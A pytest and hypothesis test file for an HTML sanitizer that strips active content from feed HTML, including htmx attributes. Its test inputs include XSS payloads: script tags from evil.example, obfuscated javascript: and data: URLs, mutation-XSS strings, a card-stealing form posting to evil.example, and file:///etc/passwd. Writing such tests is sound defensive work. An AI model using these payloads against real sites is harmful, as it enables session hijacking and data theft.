"""HTML from feeds keeps its formatting and loses everything that could act.

"Act" matters more than usual in Plaza: cards are htmx fragments, so an
``hx-post`` that survived would make a shopper's browser send requests with
their session, just as a script would.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from feeds.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_REL, sanitize_html

BASE = "https://shop.example/feeds/rss.xml"
REL = f'rel="{LINK_REL}"'


class Tags(HTMLParser):
    """The start tags of a fragment, with attributes decoded the way a browser decodes them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def attributes(html: str) -> list[tuple[str, str, str | None]]:
    return [(tag, name, value) for tag, attrs in Tags(html).tags for name, value in attrs.items()]


def test_formatting_survives_unchanged() -> None:
    html = (
        "<h3>Spring sale</h3><p>Up to <strong>50%</strong> off <em>running</em> shoes<br>"
        "this <b>week</b> <i>only</i>.</p><ul><li>one</li></ul><ol><li>two</li></ol>"
        "<blockquote>Great fit</blockquote><pre><code>SIZE-42</code></pre><h6>small print</h6>"
    )

    assert sanitize_html(html) == html


def test_empty_input_gives_empty_output() -> None:
    assert sanitize_html("") == ""


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script type=module>import('//evil')</script>",
        "<style>body{display:none}</style>",
        "<iframe src=https://evil.example>fallback</iframe>",
        "<object data=https://evil.example/x.swf>fallback</object>",
        "<embed src=https://evil.example/x.swf>",
        "<template><img src=x onerror=alert(1)></template>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<noscript><p>enable js</p></noscript>",
    ],
)
def test_active_content_goes_away_with_what_is_inside(html: str) -> None:
    assert sanitize_html(f"<p>before</p>{html}<p>after</p>") == "<p>before</p><p>after</p>"


def test_forms_and_their_fields_are_removed_but_label_text_stays() -> None:
    html = (
        '<form action="https://evil.example/steal" method="post">'
        '<label>Card number</label><input name="cc"><select><option>Visa</option></select>'
        "<textarea>notes</textarea><button>Pay</button></form>"
    )

    assert sanitize_html(html) == "Card number"


@pytest.mark.parametrize(
    "attribute",
    [
        'onclick="steal()"',
        "onmouseover=steal()",
        'ONLOAD="steal()"',
        'onerror="steal()"',
        'style="position:fixed;inset:0"',
        'hx-get="/account/delete"',
        'hx-post="/api/orders"',
        'hx-trigger="load"',
        'hx-on:click="steal()"',
        'hx-on::after-request="steal()"',
        "hx-vals='{\"a\":1}'",
        'data-hx-post="/api/orders"',
        'data-hx-trigger="revealed"',
        'data-foo="bar"',
        'class="btn-danger"',
        'id="csrf_token"',
        'x-on:click="steal()"',
        '@click="steal()"',
        'formaction="https://evil.example"',
    ],
)
def test_only_listed_attributes_survive(attribute: str) -> None:
    html = f'<p {attribute}>text</p><a href="https://ok.example/" {attribute}>link</a>'

    assert sanitize_html(html) == f'<p>text</p><a href="https://ok.example/" {REL}>link</a>'


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "mailto:someone@example.com",
    ],
)
def test_only_http_and_https_urls_survive(href: str) -> None:
    html = f'<a href="{href}">x</a><img src="{href}" alt="pic">'

    assert sanitize_html(html, BASE) == f'<a {REL}>x</a><img alt="pic">'


@pytest.mark.parametrize(
    ("url", "absolute"),
    [
        ("/p/42", "https://shop.example/p/42"),
        ("shoes.html", "https://shop.example/feeds/shoes.html"),
        ("../img/a.png", "https://shop.example/img/a.png"),
        ("?page=2", "https://shop.example/feeds/rss.xml?page=2"),
        ("//cdn.example/a.png", "https://cdn.example/a.png"),
        ("http://other.example/x", "http://other.example/x"),
    ],
)
def test_relative_urls_are_resolved_against_the_document(url: str, absolute: str) -> None:
    html = f'<a href="{url}">x</a><img src="{url}">'

    assert sanitize_html(html, BASE) == f'<a href="{absolute}" {REL}>x</a><img src="{absolute}">'


@pytest.mark.parametrize("base", [None, "", "javascript:alert(1)//", "file:///srv/", "/relative/"])
def test_without_a_usable_base_relative_urls_are_dropped_and_absolute_ones_kept(
    base: str | None,
) -> None:
    html = '<a href="/logout">out</a><a href="https://ok.example/a">ok</a>'

    assert sanitize_html(html, base) == (
        f'<a {REL}>out</a><a href="https://ok.example/a" {REL}>ok</a>'
    )


def test_links_get_our_rel_and_lose_the_authors() -> None:
    html = '<a href="https://ok.example/" rel="opener" target="_blank" title="Shoes">x</a>'

    assert sanitize_html(html) == f'<a href="https://ok.example/" title="Shoes" {REL}>x</a>'


def test_images_keep_source_alt_and_pixel_sizes_only() -> None:
    html = (
        '<img src="https://cdn.example/a.png" alt="Red shoe" width="320" height="240" '
        'srcset="https://evil.example/b.png 2x" loading="lazy">'
        '<img src="https://cdn.example/b.png" width="100%" height="expression(alert(1))">'
    )

    assert sanitize_html(html) == (
        '<img src="https://cdn.example/a.png" alt="Red shoe" width="320" height="240">'
        '<img src="https://cdn.example/b.png">'
    )


def test_unlisted_tags_are_unwrapped_keeping_their_text() -> None:
    html = "<h1>Big</h1><div><span>Deal</span></div><table><tr><td>cell</td></tr></table>"

    assert sanitize_html(html) == "BigDealcell"


def test_a_whole_document_gives_its_body_without_its_head() -> None:
    # What Outlook writes into a calendar event's X-ALT-DESC.
    html = (
        '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2//EN"><HTML><HEAD>'
        '<META NAME="Generator" CONTENT="MS Exchange Server"><TITLE>Calendar item</TITLE>'
        "<STYLE>p { color: red }</STYLE></HEAD><BODY><P><B>Bring</B> your shoes</P></BODY></HTML>"
    )

    assert sanitize_html(html) == "<p><b>Bring</b> your shoes</p>"


def test_comments_including_conditional_ones_are_removed() -> None:
    html = "<!--[if IE]><script>alert(1)</script><![endif]--><p>visible</p><!-- note -->"

    assert sanitize_html(html) == "<p>visible</p>"


@pytest.mark.parametrize(
    "html",
    [
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<a href="https://ok.example/" <img src=x onerror=alert(1)>x</a>',
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ],
)
def test_known_mutation_xss_payloads_come_out_inert(html: str) -> None:
    out = sanitize_html(html, BASE)

    assert "<script" not in out.lower()
    assert not [a for a in attributes(out) if a[1].startswith("on")]


# --- property: whatever comes in, nothing active comes out ---------------------------------

TAG_NAMES = [
    *sorted(ALLOWED_TAGS),
    *("script", "style", "iframe", "form", "input", "svg", "math", "div", "span", "object"),
    *("noscript", "template", "textarea", "mglyph", "mtext", "table", "body", "html", "base"),
]
ATTRIBUTE_NAMES = [
    *("href", "src", "alt", "width", "height", "title", "style", "class", "rel", "srcdoc"),
    *("onclick", "onerror", "onload", "OnMouseOver", "hx-get", "hx-post", "hx-on:click"),
    *("data-hx-post", "data-x", "x-on:click", "formaction", "action", "xlink:href"),
]
VALUES = [
    *("https://ok.example/a", "/relative", "//cdn.example/x", "javascript:alert(1)"),
    *("JAVASCRIPT:alert(1)", "jav&#x09;ascript:x", "&#106;avascript:x", "data:text/html,x"),
    *("vbscript:x", " javascript:x", "100", "alert(1)", '"><script>alert(1)</script>', "'"),
]
SNIPPETS = [
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!--", "-->", "<![CDATA["),
    *("]]>", "</", "<", ">", "&", '"', "'", "=", "<a href=javascript:alert(1)>", "</style>"),
    *("</noscript>", "</textarea>", "</title>", "<svg><style>", "</p>", "<br/>", "&lt;script"),
]


@st.composite
def start_tags(draw: st.DrawFn) -> str:
    name = draw(st.sampled_from(TAG_NAMES))
    pairs = draw(st.lists(st.tuples(st.sampled_from(ATTRIBUTE_NAMES), st.sampled_from(VALUES))))
    quote = draw(st.sampled_from(['"', "'", ""]))
    rendered = "".join(f" {key}={quote}{value}{quote}" for key, value in pairs)
    return f"<{name}{rendered}>"


fragments = st.lists(
    st.one_of(
        st.text(max_size=12),
        st.sampled_from(SNIPPETS),
        start_tags(),
        st.sampled_from(TAG_NAMES).map(lambda name: f"</{name}>"),
    ),
    max_size=14,
).map("".join)


@settings(max_examples=150, deadline=None)
@given(html=fragments, base=st.sampled_from([None, BASE, "javascript:alert(1)"]))
def test_nothing_active_ever_survives(html: str, base: str | None) -> None:
    out = sanitize_html(html, base)

    assert "<script" not in out.lower()
    for tag, attrs in Tags(out).tags:
        assert tag in ALLOWED_TAGS, out
        for name, value in attrs.items():
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, out
            assert not re.match(r"on\w+", name), out
            assert not name.startswith(("hx-", "data-")), out
            if name in ("href", "src"):  # text (a title, a paragraph) may say "javascript:"
                assert "javascript:" not in (value or "").lower(), out
                assert urlsplit(value or "").scheme in ("http", "https"), out
    # Outside attribute values and text, the markup itself never spells an event handler.
    markup = re.sub(r'"[^"]*"', '""', re.sub(r">[^<]*<", "><", f">{out}<"))
    assert not re.search(r"\son\w+=", markup), out
    assert "hx-" not in markup, out
